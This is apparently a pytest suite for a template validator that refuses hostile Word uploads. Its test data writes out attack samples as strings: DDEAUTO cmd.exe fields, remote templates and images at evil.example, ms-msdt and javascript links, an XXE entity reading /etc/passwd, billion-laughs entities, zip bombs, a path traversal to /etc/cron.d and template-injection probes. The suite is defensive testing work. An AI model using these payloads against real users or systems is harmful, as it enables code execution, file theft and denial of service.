"""A store's own template at the door: what is taken, what is refused, and in which words (WEB-07, A14/A15 of uploads)."""

import io
import zipfile

import pytest

from tests.handouts.facts import paragraph, standard, template, tied
from tradedoor.core.errors import Invalid
from tradedoor.handouts import packages
from tradedoor.handouts.errors import BadTemplate
from tradedoor.handouts.packages import write_package
from tradedoor.handouts.placeholders import PLACEHOLDERS
from tradedoor.handouts.template_check import checked_template

GOOD = paragraph("{{ link }}")
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def refusal(content: bytes) -> Invalid:
    with pytest.raises(BadTemplate) as refused:
        checked_template(io.BytesIO(content))
    assert refused.value.field == "template"
    return refused.value


def field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def strewn(*parts: str) -> str:
    """A field whose instruction is strewn over several runs, as Word writes it and as somebody hides it."""
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def test_the_standard_template_is_one() -> None:
    assert checked_template(io.BytesIO(write_package(standard()))) == standard()


def test_every_placeholder_is_taken() -> None:
    names = "".join(f"{{{{ {name} }}}}" for name in PLACEHOLDERS)

    assert checked_template(io.BytesIO(template(paragraph(names))))


@pytest.mark.parametrize(
    ("written", "named"),
    [
        ("{{ custmer }}", "{{ custmer }}"),
        ("{{ store.name }}", "{{ store.name }}"),
        ("{{ store|upper }}", "{{ store|upper }}"),
        ("{{ cycler.__init__.__globals__ }}", "{{ cycler.__init__.__globals__ }}"),
        ("{{ ''.join('x') }}", "{{ ''.join('x') }}"),
        ("{% for x in y %}", "{% for x in y %}"),
        ("{# note #}", "{# note #}"),
        ("{{r customer }}", "{{r customer }}"),
        ("{{ link", "{{ link"),
        ("{{{{ link }}}}", "{{"),
        ("{{}}", "{{}}"),
    ],
)
def test_whatever_is_no_plain_known_name_is_named(written: str, named: str) -> None:
    refused = refusal(template(GOOD, paragraph(written)))

    assert refused.code == "unknown_placeholders"
    assert named in str(refused)


def test_an_unknown_name_is_found_though_it_is_torn_apart() -> None:
    assert "{{ nonsense }}" in str(refusal(template(GOOD, paragraph("{", "{ non", "sense }}"))))


def test_a_template_without_link_and_code_is_refused() -> None:
    assert refusal(template(paragraph("{{ store }}"))).code == "no_link"


@pytest.mark.parametrize(
    "content",
    [b"", b"PK", b"%PDF-1.4", b"\xd0\xcf\x11\xe0" + b"\0" * 600, b"PK\x03\x04" + b"\0" * 100],
    ids=["nothing", "half a zip", "pdf", "old word", "torn"],
)
def test_what_is_no_word_file_is_refused(content: bytes) -> None:
    assert refusal(content).code == "bad_template"


def test_another_kind_of_office_file_is_refused() -> None:
    parts = standard()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main", b"x.y"
    )

    assert refusal(write_package(parts)).code == "bad_template"


def test_a_macro_document_is_refused_whatever_it_is_called() -> None:
    parts = standard()
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(kind, MACROS.encode())

    assert refusal(write_package(parts)).code == "macros"
    assert refusal(template(GOOD, more={"word/vbaProject.bin": b"x"})).code == "macros"


@pytest.mark.parametrize(
    "name",
    [
        "word/embeddings/sheet.xlsx",
        "word/media/drawing.svg",
        "word/activeX/a.bin",
        "run.exe",
        "word/noending",
    ],
)
def test_a_part_that_is_neither_text_nor_picture_is_refused(name: str) -> None:
    refused = refusal(template(GOOD, more={name: b"x"}))

    assert refused.code == "foreign_part"
    assert name.rpartition("/")[2].lower() in str(refused)


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("image", "http://evil.example/pixel.png"),
        ("image", "file:////evil.example/share/x.png"),
        ("oleObject", "http://evil.example/o"),
        ("subDocument", "other.docx"),
        ("frame", "http://evil.example/"),
        ("hyperlink", "file:///C:/windows/system32/calc.exe"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id"),
        ("styles", "https://evil.example/styles.xml"),
    ],
)
def test_whatever_is_fetched_from_elsewhere_is_refused(kind: str, target: str) -> None:
    assert refusal(template(GOOD, more=tied(kind, target))).code == "external"


def test_an_address_elsewhere_is_refused_also_where_it_does_not_say_so() -> None:
    assert (
        refusal(template(GOOD, more=tied("image", "http://evil.example/x.png", outside=False))).code
        == "external"
    )


@pytest.mark.parametrize(
    "target", ["https://www.seller.example/", "mailto:help@seller.example", "tel:+4420", "#top"]
)
def test_a_link_to_be_clicked_is_fine(target: str) -> None:
    assert checked_template(io.BytesIO(template(GOOD, more=tied("hyperlink", target))))


@pytest.mark.parametrize(
    "body",
    [
        field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        field("INCLUDEPICTURE http://evil.example/x.png"),
        field("HYPERLINK file:///c:/x.exe"),
        strewn("DDE", "AUTO cmd"),
        strewn(" INCLUDE", "TEXT http://evil.example "),
        strewn(""),
        "<w:p><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>",
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>',
    ],
)
def test_a_field_that_fetches_or_runs_is_refused(body: str) -> None:
    assert refusal(template(GOOD, body)).code == "field"


@pytest.mark.parametrize("body", [field("PAGE \\* MERGEFORMAT"), strewn(" NUM", "PAGES "), field("= 1 + 1")])
def test_a_field_that_only_counts_is_fine(body: str) -> None:
    assert checked_template(io.BytesIO(template(GOOD, body)))


@pytest.mark.parametrize(
    "name", ["word/document.xml", "word/styles.xml", "_rels/.rels", "[Content_Types].xml"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_dtd_is_refused_in_any_part_and_encoding(name: str, encoding: str) -> None:
    parts = standard()
    xml = parts[name].decode().partition("?>")[2]
    head = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    )
    parts[name] = (head + xml).encode(encoding)

    assert refusal(write_package(parts)).code == "dtd"


def test_a_billion_laughs_are_not_laughed() -> None:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    document = f'<?xml version="1.0"?><!DOCTYPE x [{laughs}]><x>&a9;</x>'

    assert refusal(template(GOOD, more={"word/document.xml": document.encode()})).code in {
        "dtd",
        "bad_template",
    }


@pytest.mark.parametrize(
    ("name", "most"),
    [("word/document.xml", packages.MOST_XML), ("word/media/image1.png", packages.MOST_UNPACKED)],
)
def test_a_zip_bomb_is_refused_before_it_is_unpacked(name: str, most: int) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, b"\0" * (most + 1))

    assert len(out.getvalue()) < 100_000
    assert refusal(out.getvalue()).code == "bomb"


def test_a_zip_of_very_many_parts_is_refused() -> None:
    assert (
        refusal(write_package({f"{number}.xml": b"" for number in range(packages.MOST_PARTS + 1)})).code
        == "bomb"
    )


def test_a_file_over_its_size_is_refused() -> None:
    assert refusal(b"PK" + b"\0" * packages.MOST_BYTES).code == "too_large"


@pytest.mark.parametrize("name", ["../../etc/cron.d/x.xml", "/word/x.xml"])
def test_a_part_with_a_way_out_is_refused(name: str) -> None:
    assert refusal(template(GOOD, more={name: b"<x/>"})).code == "bad_template"


def test_tracked_changes_are_refused_with_what_to_do() -> None:
    refused = refusal(template(GOOD, '<w:p><w:ins w:id="1"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'))

    assert refused.code == "tracked"
    assert "Accept or reject" in str(refused)


def test_a_style_sheet_to_be_fetched_is_refused() -> None:
    sheet = b'<?xml-stylesheet href="http://evil.example/x.xsl"?><x/>'

    assert refusal(template(GOOD, more={"customXml/item1.xml": sheet})).code == "bad_template"
